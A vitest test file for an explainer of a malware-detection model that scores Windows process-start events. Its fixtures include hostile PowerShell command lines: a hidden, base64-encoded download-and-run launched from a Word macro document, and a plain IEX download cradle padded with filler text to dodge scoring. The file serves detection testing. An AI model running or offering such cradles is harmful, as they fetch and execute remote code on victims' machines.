import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createExplainer, type Explainer, openScorer, type Scorer } from '../../src/problemchild/index.ts';
import { processStart } from './agent-v1/process-start.ts';

const directory = join(import.meta.dirname, '../../models/agent-v1');
const person = { userId: 'S-1-5-21-1-2-3-1001', integrityLevel: 'High' } as const;

const events = [
  processStart({
    executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    commandLine:
      'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQAuADIALgAzAC4ANAAvAGEAJwApAA==',
    parentExecutable: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
    parentCommandLine: '"WINWORD.EXE" /n "C:\\Users\\ann\\Downloads\\invoice.docm"',
    ...person,
  }),
  processStart({
    executable: 'C:\\Windows\\System32\\svchost.exe',
    commandLine: 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s Schedule',
    parentExecutable: 'C:\\Windows\\System32\\services.exe',
    userId: 'S-1-5-18',
    integrityLevel: 'System',
  }),
  processStart({
    executable: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    commandLine: `powershell.exe <# ${'an update '.repeat(200)} #> -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')`,
    ...person,
  }),
  processStart({ commandLine: '\u0000\u202e"%%%' }),
  processStart({}),
];

describe('explanations of the shipped model', () => {
  let explainer: Explainer;
  let scorer: Scorer;
  beforeAll(async () => {
    explainer = await createExplainer(directory);
    scorer = await openScorer(directory);
  });
  afterAll(() => scorer.close());

  test('add up, with the baseline, to the log-odds of the score', async () => {
    const predictions = await scorer.score(events);
    events.forEach((event, index) => {
      const logOdds = explainer.explain(event).reduce((sum, { weight }) => sum + weight, explainer.baseline);
      expect(1 / (1 + Math.exp(-logOdds))).toBeCloseTo(predictions[index]!.maliciousProbability, 5);
    });
  });

  test('name what a person recognises', () => {
    const strongest = explainer.explain(events[0]!, 40).map(({ text }) => text);
    expect(strongest).toHaveLength(40);
    expect(strongest).toContain('PowerShell told to hide or to skip its checks');
    const all = explainer.explain(events[0]!).map(({ text }) => text);
    expect(all).toContain('"-enc"');
    expect(all).toContain('powershell started by winword');
    expect(all).toContain('an office program that starts a shell or a system tool');
  });

  test('are of the part of a long line that is scored', () => {
    const texts = explainer.explain(events[2]!).map(({ text }) => text);
    expect(texts).toContain('PowerShell told to hide or to skip its checks');
  });

  test('are short printable ASCII whatever the event holds', () => {
    const nasty = processStart({
      name: `${'\u001b[31m'.repeat(40)}.exe`,
      executable: 'C:\\\u202eexe.gpj',
      commandLine: `<script>\u0007${'\u00e4'.repeat(3000)} ${'x'.repeat(5000)}`,
      parentExecutable: `C:\\${'\r\n'.repeat(50)}`,
    });
    for (const { text } of explainer.explain(nasty)) expect(text).toMatch(/^[\x20-\x7e]{1,200}$/);
  });

  test('come the strongest first', () => {
    const weights = explainer.explain(events[0]!).map(({ weight }) => Math.abs(weight));
    expect(weights).toEqual([...weights].sort((a, b) => b - a));
  });
});
